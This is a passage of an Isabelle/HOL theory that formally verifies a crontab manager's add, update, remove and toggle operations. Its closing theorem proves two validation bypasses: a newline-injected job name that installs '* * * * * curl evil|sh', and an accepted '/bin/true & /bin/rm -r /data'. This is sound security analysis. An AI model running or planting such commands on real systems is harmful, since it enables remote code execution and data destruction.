    then have "appended_table t req = ?b @ CHR 0x0A # unlines ?rows" unfolding new by simp
    then show ?thesis by (simp only: split_on_sep s rows_entries_simps)
  qed
  then show ?thesis using t by (simp add: entries_scannable [OF assms(2)] row_entry_none)
qed

subsection \<open>The target of an update\<close>

lemma scan_rows_snoc:
  "scan_rows sha i (ls @ [l]) = scan_row sha i (length ls, l) (scan_rows sha i ls)"
  by (simp add: scan_rows_def enumerate_append_eq)

definition unnamed :: "string list \<Rightarrow> bool" where
  "unnamed pre \<longleftrightarrow> pre = [] \<or> \<not> prefix ''# ServerKit:'' (trim_space (last pre))"

lemma unnamed_simps [simp]:
  "unnamed []"
  "unnamed (pre @ [l]) \<longleftrightarrow> \<not> prefix name_marker (trim_space l)"
  by (simp_all add: unnamed_def name_marker_def)

definition pending_ok :: "string list \<Rightarrow> update_scan \<Rightarrow> bool" where
  "pending_ok ls st \<longleftrightarrow>
     (us_pendingNameIdx st = None \<and> us_pendingName st = [] \<and> unnamed ls) \<or>
     (\<exists>pre c. ls = pre @ [c] \<and> us_pendingNameIdx st = Some (length pre) \<and> prefix name_marker (trim_space c) \<and>
        us_pendingName st = trim_space (trim_prefix (trim_space c) name_marker))"

definition target_ok :: "(string \<Rightarrow> string) \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> update_scan \<Rightarrow> bool" where
  "target_ok sha i ls st \<longleftrightarrow> (\<forall>t. us_targetIdx st = Some t \<longrightarrow>
     (\<exists>pre cm target post. ls = pre @ cm @ target # post \<and> t = length (pre @ cm) \<and> row_is sha i target \<and>
        us_oldSchedule st = pl_Schedule (parseLine target) \<and> us_oldCommand st = pl_Command (parseLine target) \<and>
        us_oldEnabled st = pl_Enabled (parseLine target) \<and> (\<forall>l \<in> set post. \<not> row_is sha i l) \<and>
        (cm = [] \<and> us_nameCommentIdx st = None \<and> us_oldName st = [] \<and> unnamed pre \<or>
         (\<exists>c. cm = [c] \<and> us_nameCommentIdx st = Some (length pre) \<and> prefix name_marker (trim_space c) \<and>
            us_oldName st = trim_space (trim_prefix (trim_space c) name_marker)))))"

lemma scan_rows_ok:
  "pending_ok ls (scan_rows sha i ls) \<and> target_ok sha i ls (scan_rows sha i ls) \<and>
     (us_targetIdx (scan_rows sha i ls) = None \<longrightarrow> \<not> list_ex (row_is sha i) ls)"
proof (induction ls rule: rev_induct)
  case Nil
  then show ?case by (simp add: scan_rows_def scan_init_def pending_ok_def target_ok_def)
next
  case (snoc l ls)
  let ?st = "scan_rows sha i ls"
  have post: "target_ok sha i (ls @ [l]) st"
    if "target_ok sha i ls ?st" "\<not> row_is sha i l" "us_targetIdx st = us_targetIdx ?st"
      "us_oldSchedule st = us_oldSchedule ?st" "us_oldCommand st = us_oldCommand ?st"
      "us_oldEnabled st = us_oldEnabled ?st" "us_oldName st = us_oldName ?st"
      "us_nameCommentIdx st = us_nameCommentIdx ?st" for st
    unfolding target_ok_def
  proof (intro allI impI)
    note h = that
    fix t assume "us_targetIdx st = Some t"
    then obtain pre cm target post where *: "ls = pre @ cm @ target # post" "t = length (pre @ cm)"
        "row_is sha i target" "us_oldSchedule ?st = pl_Schedule (parseLine target)"
        "us_oldCommand ?st = pl_Command (parseLine target)" "us_oldEnabled ?st = pl_Enabled (parseLine target)"
        "\<forall>l \<in> set post. \<not> row_is sha i l"
        "cm = [] \<and> us_nameCommentIdx ?st = None \<and> us_oldName ?st = [] \<and> unnamed pre \<or>
         (\<exists>c. cm = [c] \<and> us_nameCommentIdx ?st = Some (length pre) \<and> prefix name_marker (trim_space c) \<and>
            us_oldName ?st = trim_space (trim_prefix (trim_space c) name_marker))"
      using h(1,3) unfolding target_ok_def by metis
    show "\<exists>pre cm target post. ls @ [l] = pre @ cm @ target # post \<and> t = length (pre @ cm) \<and> row_is sha i target \<and>
        us_oldSchedule st = pl_Schedule (parseLine target) \<and> us_oldCommand st = pl_Command (parseLine target) \<and>
        us_oldEnabled st = pl_Enabled (parseLine target) \<and> (\<forall>l \<in> set post. \<not> row_is sha i l) \<and>
        (cm = [] \<and> us_nameCommentIdx st = None \<and> us_oldName st = [] \<and> unnamed pre \<or>
         (\<exists>c. cm = [c] \<and> us_nameCommentIdx st = Some (length pre) \<and> prefix name_marker (trim_space c) \<and>
            us_oldName st = trim_space (trim_prefix (trim_space c) name_marker)))"
      by (rule exI [of _ pre], rule exI [of _ cm], rule exI [of _ target], rule exI [of _ "post @ [l]"])
        (use * h in auto)
  qed
  show ?case
  proof (cases "prefix name_marker (trim_space l)")
    case True
    then have nr: "\<not> row_is sha i l" by (simp add: row_is_def Let_def ServerKit_not_entry)
    have "pending_ok (ls @ [l]) (scan_rows sha i (ls @ [l]))"
      using True by (simp add: scan_rows_snoc scan_row_def pending_ok_def)
    moreover have "target_ok sha i (ls @ [l]) (scan_rows sha i (ls @ [l]))"
      by (rule post) (use snoc nr True in \<open>simp_all add: scan_rows_snoc scan_row_def\<close>)
    ultimately show ?thesis using snoc nr True by (simp add: scan_rows_snoc scan_row_def)
  next
    case False
    have p: "pending_ok (ls @ [l]) (scan_rows sha i (ls @ [l]))"
      using False by (simp add: scan_rows_snoc scan_row_def pending_ok_def Let_def)
    show ?thesis
    proof (cases "row_is sha i l")
      case nr: False
      have "target_ok sha i (ls @ [l]) (scan_rows sha i (ls @ [l]))"
        by (rule post) (use snoc nr False in \<open>simp_all add: scan_rows_snoc scan_row_def Let_def\<close>)
      then show ?thesis using p snoc nr False by (simp add: scan_rows_snoc scan_row_def Let_def)
    next
      case r: True
      have "target_ok sha i (ls @ [l]) (scan_rows sha i (ls @ [l]))"
        using snoc [THEN conjunct1] unfolding pending_ok_def
      proof
        assume "us_pendingNameIdx ?st = None \<and> us_pendingName ?st = [] \<and> unnamed ls"
        then show ?thesis
          unfolding target_ok_def scan_rows_snoc
          by (intro allI impI, rule_tac exI [of _ ls], rule_tac exI [of _ "[]"], rule_tac exI [of _ l], rule_tac exI [of _ "[]"])
            (use False r in \<open>simp add: scan_row_def Let_def\<close>)
      next
        assume "\<exists>pre c. ls = pre @ [c] \<and> us_pendingNameIdx ?st = Some (length pre) \<and> prefix name_marker (trim_space c) \<and>
          us_pendingName ?st = trim_space (trim_prefix (trim_space c) name_marker)"
        then obtain pre c where c: "ls = pre @ [c]" "us_pendingNameIdx ?st = Some (length pre)"
          "prefix name_marker (trim_space c)" "us_pendingName ?st = trim_space (trim_prefix (trim_space c) name_marker)"
          by blast
        then show ?thesis
          unfolding target_ok_def scan_rows_snoc
          by (intro allI impI, rule_tac exI [of _ pre], rule_tac exI [of _ "[c]"], rule_tac exI [of _ l], rule_tac exI [of _ "[]"])
            (use False r in \<open>simp add: scan_row_def Let_def\<close>)
      qed
      then show ?thesis using p False r by (simp add: scan_rows_snoc scan_row_def Let_def)
    qed
  qed
qed


lemma rewrite_block:
  assumes "\<forall>k. n \<le> k \<and> k < n + length xs \<longrightarrow> nc \<noteq> Some k \<and> k \<noteq> t"
  shows "concat (map (\<lambda>(k, raw). if nc = Some k then [] else if k = t then out else unlines [raw]) (enumerate n xs))
    = unlines xs"
  using assms by (induction xs arbitrary: n) auto

lemma rewrite_rows:
  assumes "cm = [] \<and> nc = None \<or> (\<exists>c. cm = [c] \<and> nc = Some (length pre))" "t = length (pre @ cm)"
  shows "concat (map (\<lambda>(k, raw). if nc = Some k then [] else if k = t then out else unlines [raw])
      (enumerate 0 (pre @ cm @ target # post))) = unlines pre @ out @ unlines post"
proof -
  let ?f = "\<lambda>(k, raw). if nc = Some k then [] else if k = t then out else unlines [raw]"
  have "concat (map ?f (enumerate 0 pre)) = unlines pre"
    by (rule rewrite_block) (use assms in auto)
  moreover have "concat (map ?f (enumerate (Suc t) post)) = unlines post"
    by (rule rewrite_block) (use assms in auto)
  ultimately show ?thesis using assms by (auto simp: enumerate_append_eq)
qed


text \<open>The name that the comment above an entry gives it.\<close>

definition named :: "string list \<Rightarrow> string" where
  "named cm = (case cm of [] \<Rightarrow> [] | c # _ \<Rightarrow> trim_space (trim_prefix (trim_space c) ''# ServerKit:''))"

lemma applyUpdate_rows:
  assumes "applyUpdate sha content req = Inr (new, e)"
  shows "\<exists>pre cm target post. split_on (CHR 0x0A) content = pre @ cm @ target # post \<and>
     row_is sha (ur_ID req) target \<and> (\<forall>l \<in> set post. \<not> row_is sha (ur_ID req) l) \<and>
     (cm = [] \<and> unnamed pre \<or> (\<exists>c. cm = [c] \<and> prefix name_marker (trim_space c))) \<and>
     en_Enabled e = pl_Enabled (parseLine target) \<and>
     en_Schedule e = opt_trim (ur_Schedule req) (pl_Schedule (parseLine target)) \<and>
     en_Command e = opt_trim (ur_Command req) (pl_Command (parseLine target)) \<and>
     en_ID e = entryID sha (en_Schedule e) (en_Command e) \<and>
     en_Description e = describeSchedule (en_Schedule e) \<and>
     en_Name e = opt_trim (ur_Name req) (named cm) \<and>
     validateSchedule (en_Schedule e) = Inr () \<and> validateCommand (en_Command e) = Inr () \<and>
     (en_ID e \<noteq> ur_ID req \<longrightarrow> \<not> list_ex (row_is sha (en_ID e)) (split_on (CHR 0x0A) content)) \<and>
     new = trim_right_char (CHR 0x0A) (unlines (pre @ name_rows (en_Name e) @
       [entry_row (en_Enabled e) (en_Schedule e) (en_Command e)] @ post)) @ [CHR 0x0A]"
proof -
  let ?rows = "split_on (CHR 0x0A) content"
  let ?st = "scan_rows sha (ur_ID req) ?rows"
  obtain t where t: "us_targetIdx ?st = Some t"
    using assms by (auto simp: applyUpdate_def Let_def split: if_splits option.splits)
  obtain pre cm target post where *: "?rows = pre @ cm @ target # post" "t = length (pre @ cm)"
      "row_is sha (ur_ID req) target" "us_oldSchedule ?st = pl_Schedule (parseLine target)"
      "us_oldCommand ?st = pl_Command (parseLine target)" "us_oldEnabled ?st = pl_Enabled (parseLine target)"
      "\<forall>l \<in> set post. \<not> row_is sha (ur_ID req) l"
      "cm = [] \<and> us_nameCommentIdx ?st = None \<and> us_oldName ?st = [] \<and> unnamed pre \<or>
       (\<exists>c. cm = [c] \<and> us_nameCommentIdx ?st = Some (length pre) \<and> prefix name_marker (trim_space c) \<and>
          us_oldName ?st = trim_space (trim_prefix (trim_space c) name_marker))"
    using scan_rows_ok [of ?rows sha "ur_ID req", THEN conjunct2, THEN conjunct1, unfolded target_ok_def, rule_format, OF t]
    by (elim exE conjE) (rule that)
  define s where "s = opt_trim (ur_Schedule req) (us_oldSchedule ?st)"
  define c where "c = opt_trim (ur_Command req) (us_oldCommand ?st)"
  define nm where "nm = opt_trim (ur_Name req) (us_oldName ?st)"
  have nc: "cm = [] \<and> us_nameCommentIdx ?st = None \<or> (\<exists>c. cm = [c] \<and> us_nameCommentIdx ?st = Some (length pre))"
    using *(8) by blast
  have out: "concat (map (\<lambda>(k, raw). if us_nameCommentIdx ?st = Some k then []
      else if k = t then unlines (name_rows nm @ [entry_row (us_oldEnabled ?st) s c]) else unlines [raw]) (enumerate 0 ?rows))
      = unlines (pre @ name_rows nm @ [entry_row (us_oldEnabled ?st) s c] @ post)"
    using rewrite_rows [OF nc *(2), of "unlines (name_rows nm @ [entry_row (us_oldEnabled ?st) s c])" target post]
    by (simp only: *(1) [symmetric] unlines_simps(3) append_assoc)
  have ne: "ur_ID req \<noteq> []" using assms by (auto simp: applyUpdate_def)
  have ap: "applyUpdate sha content req = rbind (validateSchedule s) (\<lambda>_. rbind (validateCommand c) (\<lambda>_.
      if entryID sha s c \<noteq> ur_ID req \<and> list_ex (row_is sha (entryID sha s c)) ?rows then Inl DuplicateEntry
      else Inr (trim_right_char (CHR 0x0A) (unlines (pre @ name_rows nm @ [entry_row (us_oldEnabled ?st) s c] @ post)) @ [CHR 0x0A],
        \<lparr>en_ID = entryID sha s c, en_Schedule = s, en_Command = c, en_Enabled = us_oldEnabled ?st, en_Name = nm,
         en_Description = describeSchedule s\<rparr>)))"
    unfolding applyUpdate_def if_not_P [OF ne] Let_def t option.case
    unfolding s_def [symmetric] c_def [symmetric] nm_def [symmetric] out ..
  have v: "validateSchedule s = Inr ()" "validateCommand c = Inr ()"
      "\<not> (entryID sha s c \<noteq> ur_ID req \<and> list_ex (row_is sha (entryID sha s c)) ?rows)"
      "e = \<lparr>en_ID = entryID sha s c, en_Schedule = s, en_Command = c, en_Enabled = us_oldEnabled ?st, en_Name = nm,
         en_Description = describeSchedule s\<rparr>"
      "new = trim_right_char (CHR 0x0A) (unlines (pre @ name_rows nm @ [entry_row (us_oldEnabled ?st) s c] @ post)) @ [CHR 0x0A]"
    using assms unfolding ap rbind_Inr_iff by (auto split: if_splits)
  have n: "nm = opt_trim (ur_Name req) (named cm)"
    using *(8) by (auto simp: nm_def named_def name_marker_def)
  have cm: "cm = [] \<and> unnamed pre \<or> (\<exists>c. cm = [c] \<and> prefix name_marker (trim_space c))" using *(8) by blast
  note e = v(4) [unfolded *(6)] and new = v(5) [unfolded *(6)]
  have sc: "s = opt_trim (ur_Schedule req) (pl_Schedule (parseLine target))"
      "c = opt_trim (ur_Command req) (pl_Command (parseLine target))"
    by (simp_all only: s_def c_def *(4,5))
  show ?thesis
    by (rule exI [of _ pre], rule exI [of _ cm], rule exI [of _ target], rule exI [of _ post])
      (use *(1,3,7) cm v(1-3) n sc in \<open>simp add: e new, blast\<close>)
qed

subsection \<open>Properties\<close>

text \<open>
  C14. Adding a job. When \<open>Add\<close> succeeds, the installed table lists exactly the entries listed
  before, in order, followed by the returned entry, whose id is new. The request is written with
  single spaces and its name has no newline, and the scanner reads both tables whole.
\<close>

theorem cron_add_appends:
  assumes "CronAdd sha req rd wr = (Inr e, Some new)" and "readCrontab rd = Inr content"
    and "normalised (ar_Schedule req)" and "normalised (ar_Command req)" and "CHR 0x0A \<notin> set (ar_Name req)"
    and "scannable content" and "scannable new"
  shows "entries sha new = entries sha content @ [e\<lparr>en_Name := []\<rparr>] \<and>
     en_ID e \<notin> en_ID ` set (entries sha content) \<and> en_Enabled e"
proof -
  let ?i = "entryID sha (ar_Schedule req) (ar_Command req)"
  have v: "validateSchedule (ar_Schedule req) = Inr ()" "validateCommand (ar_Command req) = Inr ()"
      "\<not> list_ex (row_is sha ?i) (scan_lines content)" "new = appended_table content req"
      "e = \<lparr>en_ID = ?i, en_Schedule = ar_Schedule req, en_Command = ar_Command req, en_Enabled = True,
         en_Name = ar_Name req, en_Description = describeSchedule (ar_Schedule req)\<rparr>"
    using assms(1,2) by (auto simp: CronAdd_def Let_def rbind_Inr_iff split: sum.splits if_splits)
  have "entries sha new = entries sha content @ row_entry sha (entry_row True (ar_Schedule req) (ar_Command req))"
    using appended_entries [OF assms(6) _ assms(5) v(1,2) assms(3,4)] assms(7) v(4) by simp
  then have "entries sha new = entries sha content @ [e\<lparr>en_Name := []\<rparr>]"
    using v(5) row_entry_entry_row [OF v(1) assms(3) validateCommand_fields(1) [OF v(2) assms(4)] assms(4), of sha True]
    by simp
  moreover have "en_ID e \<notin> en_ID ` set (entries sha content)"
    using v(3) unfolding v(5) entries_rows no_match_entries by auto
  ultimately show ?thesis using v(5) by simp
qed

definition witness_add :: add_request where
  "witness_add = \<lparr>ar_Schedule = ''0 0 * * *'', ar_Command = ''/bin/b -x'', ar_Name = ''n'', ar_Description = []\<rparr>"

definition witness_table :: string where
  "witness_table = unlines [''# top'', ''*/5 * * * * /bin/a'', ''# 1 2 3 4 5 /bin/c'']"

definition exit_0 :: "string \<Rightarrow> run_result" where
  "exit_0 out = \<lparr>rr_out = out, rr_stderr = [], rr_err = None\<rparr>"

lemma exit_0_written: "writeCrontab (\<lambda>_. exit_0 []) c = Inr ()"
  by (simp add: writeCrontab_def exit_0_def)

lemma scannable_unlines:
  "\<forall>l \<in> set ls. CHR 0x0A \<notin> set l \<and> length l < max_scan_token \<and> (l = [] \<or> last l \<noteq> CHR 0x0D)
     \<Longrightarrow> scannable (unlines ls)"
  by (simp add: scannable_def scan_lines_unlines raw_lines_unlines)

lemma witness_scannable: "scannable witness_table"
  unfolding witness_table_def by (rule scannable_unlines) (simp add: max_scan_token_def)

lemma witness_scan: "scan_lines witness_table = [''# top'', ''*/5 * * * * /bin/a'', ''# 1 2 3 4 5 /bin/c'']"
  unfolding witness_table_def by (rule scan_lines_unlines) (simp add: max_scan_token_def)

lemma witness_appended: "appended_table witness_table witness_add = unlines
    [''# top'', ''*/5 * * * * /bin/a'', ''# 1 2 3 4 5 /bin/c'', ''# ServerKit: n'', ''0 0 * * * /bin/b -x'']"
  by code_simp

theorem cron_add_appends_witness:
  "\<exists>e new. CronAdd (\<lambda>s. s) witness_add (exit_0 witness_table) (\<lambda>_. exit_0 []) = (Inr e, Some new) \<and>
     entries (\<lambda>s. s) new = entries (\<lambda>s. s) witness_table @ [e\<lparr>en_Name := []\<rparr>]"
proof -
  let ?new = "appended_table witness_table witness_add"
  have run: "CronAdd (\<lambda>s. s) witness_add (exit_0 witness_table) (\<lambda>_. exit_0 []) =
      (Inr \<lparr>en_ID = ''cron_0 0 * * *'' @ [CHR 0x00] @ ''/bin/b -x'', en_Schedule = ''0 0 * * *'', en_Command = ''/bin/b -x'',
         en_Enabled = True, en_Name = ''n'', en_Description = ''Daily at midnight''\<rparr>, Some ?new)"
  proof -
    have v: "validateSchedule (ar_Schedule witness_add) = Inr ()" "validateCommand (ar_Command witness_add) = Inr ()"
        "describeSchedule (ar_Schedule witness_add) = ''Daily at midnight''"
        "list_ex (row_is (\<lambda>s. s) (entryID (\<lambda>s. s) (ar_Schedule witness_add) (ar_Command witness_add)))
          [''# top'', ''*/5 * * * * /bin/a'', ''# 1 2 3 4 5 /bin/c''] = False"
      by code_simp+
    show ?thesis
      by (simp only: CronAdd_def v rbind_simps sum.case Let_def readCrontab_def writeCrontab_def exit_0_def
          run_result.simps option.case witness_scan if_False)
        (simp add: witness_add_def entryID_def)
  qed
  have n: "normalised (ar_Schedule witness_add)" "normalised (ar_Command witness_add)"
      "CHR 0x0A \<notin> set (ar_Name witness_add)" "readCrontab (exit_0 witness_table) = Inr witness_table"
    by code_simp+
  have "scannable ?new"
    unfolding witness_appended by (rule scannable_unlines) (simp add: max_scan_token_def)
  from cron_add_appends [OF run n(4) n(1-3) witness_scannable this] run show ?thesis by blast
qed

text \<open>
  C37. Editing a job. A successful \<open>applyUpdate\<close> replaces one row, the last one with the requested id,
  and its name comment if the row directly above is one, by the comment of the new name, if there is
  one, and the new entry. Schedule, command and name are those of the request where it has them, else
  the old ones, and a disabled job stays disabled. Every other row stays as it is, in order, up to
  newlines at the end of the table. The new row is read back as the returned entry, and if the id
  changes no row had it before. Schedule and command are single-spaced; a name is written unchecked.
\<close>

theorem cron_update_rewrites_one_row:
  assumes "applyUpdate sha content req = Inr (new, e)"
    and "normalised (en_Schedule e)" and "normalised (en_Command e)"
  shows "\<exists>pre cm target post row. split_on (CHR 0x0A) content = pre @ cm @ target # post \<and>
     row_is sha (ur_ID req) target \<and> (\<forall>l \<in> set post. \<not> row_is sha (ur_ID req) l) \<and>
     (cm = [] \<and> unnamed pre \<or> (\<exists>c. cm = [c] \<and> prefix ''# ServerKit:'' (trim_space c))) \<and>
     en_Schedule e = opt_trim (ur_Schedule req) (pl_Schedule (parseLine target)) \<and>
     en_Command e = opt_trim (ur_Command req) (pl_Command (parseLine target)) \<and>
     en_Name e = opt_trim (ur_Name req) (named cm) \<and>
     new = trim_right_char (CHR 0x0A) (unlines (pre @ name_rows (en_Name e) @ [row] @ post)) @ [CHR 0x0A] \<and>
     parseLine row = \<lparr>pl_Raw = row, pl_Schedule = en_Schedule e, pl_Command = en_Command e,
       pl_Enabled = pl_Enabled (parseLine target), pl_IsEntry = True\<rparr> \<and>
     row_is sha (en_ID e) row \<and>
     (en_ID e \<noteq> ur_ID req \<longrightarrow> \<not> list_ex (row_is sha (en_ID e)) (split_on (CHR 0x0A) content))"
proof -
  obtain pre cm target post where *: "split_on (CHR 0x0A) content = pre @ cm @ target # post"
      "row_is sha (ur_ID req) target" "\<forall>l \<in> set post. \<not> row_is sha (ur_ID req) l"
      "cm = [] \<and> unnamed pre \<or> (\<exists>c. cm = [c] \<and> prefix name_marker (trim_space c))"
      "en_Enabled e = pl_Enabled (parseLine target)" "en_ID e = entryID sha (en_Schedule e) (en_Command e)"
      "validateSchedule (en_Schedule e) = Inr ()" "validateCommand (en_Command e) = Inr ()"
      "en_ID e \<noteq> ur_ID req \<longrightarrow> \<not> list_ex (row_is sha (en_ID e)) (split_on (CHR 0x0A) content)"
      "new = trim_right_char (CHR 0x0A) (unlines (pre @ name_rows (en_Name e) @
         [entry_row (en_Enabled e) (en_Schedule e) (en_Command e)] @ post)) @ [CHR 0x0A]"
      "en_Schedule e = opt_trim (ur_Schedule req) (pl_Schedule (parseLine target))"
      "en_Command e = opt_trim (ur_Command req) (pl_Command (parseLine target))"
      "en_Name e = opt_trim (ur_Name req) (named cm)"
    using applyUpdate_rows [OF assms(1)] by (elim exE conjE) (rule that)
  note row = *(7) assms(2) validateCommand_fields(1) [OF *(8) assms(3)] assms(3)
  show ?thesis
    by (rule exI [of _ pre], rule exI [of _ cm], rule exI [of _ target], rule exI [of _ post],
        rule exI [of _ "entry_row (en_Enabled e) (en_Schedule e) (en_Command e)"])
      (use *(1-4,9,10) in \<open>simp add: parse_entry_row [OF row] row_is_entry_row [OF row] *(5) *(6) [symmetric]
        *(11-13) [symmetric] name_marker_def [symmetric]\<close>)
qed

theorem cron_update_rewrites_one_row_witness:
  "\<exists>new e. applyUpdate (\<lambda>s. s) witness_table \<lparr>ur_ID = ''cron_1 2 3 4 5'' @ [CHR 0x00] @ ''/bin/c'',
       ur_Schedule = None, ur_Command = Some ''/bin/d'', ur_Name = Some ''x''\<rparr> = Inr (new, e) \<and>
     row_is (\<lambda>s. s) (''cron_1 2 3 4 5'' @ [CHR 0x00] @ ''/bin/c'') ''# 1 2 3 4 5 /bin/c'' \<and>
     (\<exists>pre cm target post row. split_on (CHR 0x0A) witness_table = pre @ cm @ target # post \<and>
        row_is (\<lambda>s. s) (en_ID e) row)"
proof -
  let ?req = "\<lparr>ur_ID = ''cron_1 2 3 4 5'' @ [CHR 0x00] @ ''/bin/c'',
       ur_Schedule = None, ur_Command = Some ''/bin/d'', ur_Name = Some ''x''\<rparr>"
  let ?new = "unlines [''# top'', ''*/5 * * * * /bin/a'', ''# ServerKit: x'', ''# 1 2 3 4 5 /bin/d'']"
  let ?e = "\<lparr>en_ID = ''cron_1 2 3 4 5'' @ [CHR 0x00] @ ''/bin/d'', en_Schedule = ''1 2 3 4 5'', en_Command = ''/bin/d'',
         en_Enabled = False, en_Name = ''x'', en_Description = ''1 2 3 4 5''\<rparr>"
  have run: "applyUpdate (\<lambda>s. s) witness_table ?req = Inr (?new, ?e)" by code_simp
  have n: "normalised (en_Schedule ?e)" "normalised (en_Command ?e)" by code_simp+
  have "row_is (\<lambda>s. s) (''cron_1 2 3 4 5'' @ [CHR 0x00] @ ''/bin/c'') ''# 1 2 3 4 5 /bin/c''" by code_simp
  with cron_update_rewrites_one_row [OF run n] run show ?thesis by blast
qed

text \<open>
  Removing a job deletes exactly the entries with that id from the list, and switching it on
  or off changes exactly the enabled state of the entries with that id; all other entries and their
  order are kept, provided the scanner reads both tables whole. With an unknown id neither touches
  the table.
\<close>

theorem cron_remove_toggle:
  assumes "readCrontab rd = Inr content" and "scannable content"
  shows "(CronRemove sha i rd wr = (r, Some new) \<and> scannable new \<longrightarrow>
       entries sha new = filter (\<lambda>e. en_ID e \<noteq> i) (entries sha content)) \<and>
     (CronToggle sha i en rd wr = (r, Some new) \<and> scannable new \<longrightarrow>
       entries sha new = map (\<lambda>e. if en_ID e = i then e\<lparr>en_Enabled := en\<rparr> else e) (entries sha content)) \<and>
     (i \<notin> en_ID ` set (entries sha content) \<longrightarrow>
       CronRemove sha i rd wr = (Inl (NotFound i), None) \<and> CronToggle sha i en rd wr = (Inl (NotFound i), None))"
proof (intro conjI impI)
  note e = entries_rows [of sha content]
  assume a: "CronRemove sha i rd wr = (r, Some new) \<and> scannable new"
  then have new: "new = trim_right_char (CHR 0x0A) (unlines (filter (\<lambda>l. \<not> row_is sha i l) (scan_lines content))) @ [CHR 0x0A]"
    using assms(1) by (auto simp: CronRemove_def Let_def split: if_splits)
  show "entries sha new = filter (\<lambda>e. en_ID e \<noteq> i) (entries sha content)"
    unfolding e filter_entries [symmetric] new
    by (rule rewritten_entries [OF assms(2)]) (use a new scan_lines_no_newline [OF assms(2)] in auto)
next
  note e = entries_rows [of sha content]
  assume a: "CronToggle sha i en rd wr = (r, Some new) \<and> scannable new"
  then have new: "new = trim_right_char (CHR 0x0A) (unlines (map (toggle_row sha i en) (scan_lines content))) @ [CHR 0x0A]"
    using assms(1) by (auto simp: CronToggle_def Let_def split: if_splits)
  show "entries sha new = map (\<lambda>e. if en_ID e = i then e\<lparr>en_Enabled := en\<rparr> else e) (entries sha content)"
    unfolding e toggle_entries [symmetric] new
    by (rule rewritten_entries [OF assms(2)])
      (use a new in \<open>simp_all add: toggle_row_no_newline scan_lines_no_newline [OF assms(2)]\<close>)
next
  assume "i \<notin> en_ID ` set (entries sha content)"
  then have "\<not> list_ex (row_is sha i) (scan_lines content)"
    unfolding entries_rows no_match_entries by auto
  then show "CronRemove sha i rd wr = (Inl (NotFound i), None)" "CronToggle sha i en rd wr = (Inl (NotFound i), None)"
    using assms(1) by (simp_all add: CronRemove_def CronToggle_def Let_def)
qed

theorem cron_remove_toggle_witness:
  "entries (\<lambda>s. s) (unlines [''# top'', ''# 1 2 3 4 5 /bin/c'']) =
     filter (\<lambda>e. en_ID e \<noteq> ''cron_*/5 * * * *'' @ [CHR 0x00] @ ''/bin/a'') (entries (\<lambda>s. s) witness_table)"
proof -
  let ?i = "''cron_*/5 * * * *'' @ [CHR 0x00] @ ''/bin/a''"
  have r: "readCrontab (exit_0 witness_table) = Inr witness_table" by code_simp
  have run: "CronRemove (\<lambda>s. s) ?i (exit_0 witness_table) (\<lambda>_. exit_0 []) = (Inr (), Some (unlines [''# top'', ''# 1 2 3 4 5 /bin/c'']))"
  proof -
    have v: "list_ex (row_is (\<lambda>s. s) ?i) [''# top'', ''*/5 * * * * /bin/a'', ''# 1 2 3 4 5 /bin/c''] = True"
        "filter (\<lambda>l. \<not> row_is (\<lambda>s. s) ?i l) [''# top'', ''*/5 * * * * /bin/a'', ''# 1 2 3 4 5 /bin/c''] =
          [''# top'', ''# 1 2 3 4 5 /bin/c'']"
        "trim_right_char (CHR 0x0A) (unlines [''# top'', ''# 1 2 3 4 5 /bin/c'']) @ [CHR 0x0A] =
          unlines [''# top'', ''# 1 2 3 4 5 /bin/c'']"
      by code_simp+
    show ?thesis
      by (simp only: CronRemove_def Let_def r sum.case witness_scan v exit_0_written if_False not_True_eq_False)
  qed
  have "scannable (unlines [''# top'', ''# 1 2 3 4 5 /bin/c''])"
    by (rule scannable_unlines) (simp add: max_scan_token_def)
  with run cron_remove_toggle [OF r witness_scannable, of "\<lambda>s. s" ?i "\<lambda>_. exit_0 []" "Inr ()"] show ?thesis by blast
qed

text \<open>
  Two ways past the checks. A name is written into the table without looking for newlines, so
  a name with a newline installs a second row, here one that runs a shell pipeline which
  \<open>validateCommand\<close> would reject; and the list of blocked operators has \<open>&&\<close> but not a single
  \<open>&\<close>, so one accepted command can run two programs.
\<close>

theorem cron_name_injects_rows:
  "snd (CronAdd sha \<lparr>ar_Schedule = ''0 0 * * *'', ar_Command = ''/bin/b'',
        ar_Name = ''x'' @ [CHR 0x0A] @ ''* * * * * curl evil|sh'', ar_Description = []\<rparr> (exit_0 []) wr)
     = Some (unlines [''# ServerKit: x'', ''* * * * * curl evil|sh'', ''0 0 * * * /bin/b'']) \<and>
   parseLine ''* * * * * curl evil|sh'' = \<lparr>pl_Raw = ''* * * * * curl evil|sh'', pl_Schedule = ''* * * * *'',
     pl_Command = ''curl evil|sh'', pl_Enabled = True, pl_IsEntry = True\<rparr> \<and>
   validateCommand ''curl evil|sh'' = Inl (BlockedOperator ''|'') \<and>
   validateCommand ''/bin/true & /bin/rm -r /data'' = Inr ()"
proof -
  have v: "validateSchedule ''0 0 * * *'' = Inr ()" "validateCommand ''/bin/b'' = Inr ()"
      "readCrontab (exit_0 []) = Inr []"
    by code_simp+
  have sc: "scan_lines [] = []" by (simp add: scan_lines_def raw_lines_def)
  have list_ex_Nil_False: "list_ex P [] = False" for P :: "string \<Rightarrow> bool" by simp
  have "appended_table [] \<lparr>ar_Schedule = ''0 0 * * *'', ar_Command = ''/bin/b'',
        ar_Name = ''x'' @ [CHR 0x0A] @ ''* * * * * curl evil|sh'', ar_Description = []\<rparr>
      = unlines [''# ServerKit: x'', ''* * * * * curl evil|sh'', ''0 0 * * * /bin/b'']"
    by code_simp
  then have "snd (CronAdd sha \<lparr>ar_Schedule = ''0 0 * * *'', ar_Command = ''/bin/b'',
        ar_Name = ''x'' @ [CHR 0x0A] @ ''* * * * * curl evil|sh'', ar_Description = []\<rparr> (exit_0 []) wr)
     = Some (unlines [''# ServerKit: x'', ''* * * * * curl evil|sh'', ''0 0 * * * /bin/b''])"
    by (simp only: CronAdd_def add_request.simps v sc rbind_simps sum.case Let_def list_ex_Nil_False if_False snd_conv)
  moreover have "parseLine ''* * * * * curl evil|sh'' = \<lparr>pl_Raw = ''* * * * * curl evil|sh'', pl_Schedule = ''* * * * *'',
     pl_Command = ''curl evil|sh'', pl_Enabled = True, pl_IsEntry = True\<rparr>"
    by code_simp
  moreover have "validateCommand ''curl evil|sh'' = Inl (BlockedOperator ''|'')" by code_simp
  moreover have "validateCommand ''/bin/true & /bin/rm -r /data'' = Inr ()" by code_simp
  ultimately show ?thesis by blast
qed

end
